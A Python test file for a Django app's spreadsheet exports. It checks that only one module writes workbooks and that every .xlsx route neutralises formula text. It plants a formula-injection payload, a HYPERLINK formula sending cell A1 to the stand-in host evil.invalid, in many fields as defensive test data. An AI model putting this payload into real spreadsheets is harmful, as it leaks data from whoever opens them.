"""Every spreadsheet export goes through the one writer (core/xlsx.py) and arrives without a live formula.

Two halves: no module but core/xlsx.py opens a workbook for writing (so a new export cannot bring its own
writer), and every .xlsx route, fed a formula in each text it shows, yields only neutralised text."""

from __future__ import annotations

import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
from django.urls import URLPattern, URLResolver, get_resolver

from taizhang.core.xlsx import FORMULA_START
from tests.cases.conftest import CaseMaker
from tests.clues.conftest import Walk
from tests.rectification.conftest import Rect

SRC = Path(__file__).resolve().parents[2] / "src" / "taizhang"
FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"点此查看")'
WRITER = re.compile(r"^\s*(import xlsxwriter|from xlsxwriter\b|from openpyxl import .*\bWorkbook\b)", re.M)


def test_only_the_one_writer_writes_workbooks():
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "xlsx.py" and WRITER.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"write .xlsx through taizhang.core.xlsx, not directly: {offenders}"


def _xlsx_routes() -> set[str]:
    found: set[str] = set()

    def walk(patterns, prefix=""):  # type: ignore[no-untyped-def]
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern) and str(p.pattern).endswith(".xlsx"):
                found.add(prefix + str(p.pattern))

    walk(get_resolver().url_patterns)
    return found


def _cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    ]


def _named_entity(world) -> int:
    """An entity whose name is the formula (a clue's subject, resolved)."""
    from taizhang.clues.actions import SubjectData
    from taizhang.people.models import Mention
    from taizhang.people.resolve import resolve_clue

    clue = Walk(world).register(subjects=[SubjectData(name=FORMULA[:100])])
    resolve_clue(clue.pk)
    return Mention.objects.get(clue=clue).entity_id


def test_every_export_neutralises_every_cell(world):
    unit = world.units["construction"]
    unit.name = FORMULA
    unit.save(update_fields=["name"])
    Walk(world).register(summary=FORMULA)
    case = CaseMaker(world).register(name=FORMULA)
    rect = Rect(world)
    letter = rect.letter()
    from taizhang.rectification.models import Letter

    Letter.objects.filter(pk=letter.pk).update(problems=FORMULA)
    problem_list = rect.problem_list()
    from taizhang.cases.models import AssetItem

    AssetItem.objects.create(
        case=case,
        kind="cash",
        description=FORMULA,
        value=10000,
        measure="seize",
        custodian=world.units["police"],
        measured_on=dt.date(2026, 3, 1),
    )
    urls = {
        "clues/export.xlsx": "/clues/export.xlsx",
        "api/clues/export.xlsx": "/api/clues/export.xlsx",
        "cases/export.xlsx": "/cases/export.xlsx",
        "cases/assets/export.xlsx": "/cases/assets/export.xlsx",
        "rectification/letters/export.xlsx": "/rectification/letters/export.xlsx",
        "rectification/lists/<int:pk>/export.xlsx": f"/rectification/lists/{problem_list.pk}/export.xlsx",
        "reports/summary.xlsx": "/reports/summary.xlsx",
        "people/<int:pk>/graph.xlsx": f"/people/{_named_entity(world)}/graph.xlsx",
    }
    assert set(urls) == _xlsx_routes(), "a new .xlsx route: add it here with a formula in what it shows"
    urls["reports/assessment/?format=xlsx"] = "/reports/assessment/?format=xlsx"
    client = world.client_for("office_leader")
    problems = []
    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        cells = _cells(content)
        live = [v for v in cells if v.startswith(FORMULA_START)]
        if live:
            problems.append(f"{name}: {live[:3]}")
        if name != "reports/assessment/?format=xlsx" and not any(FORMULA in v for v in cells):
            problems.append(f"{name}: the planted text is missing (the test would prove nothing)")
    assert case.name == FORMULA
    assert not problems, "\n".join(problems)
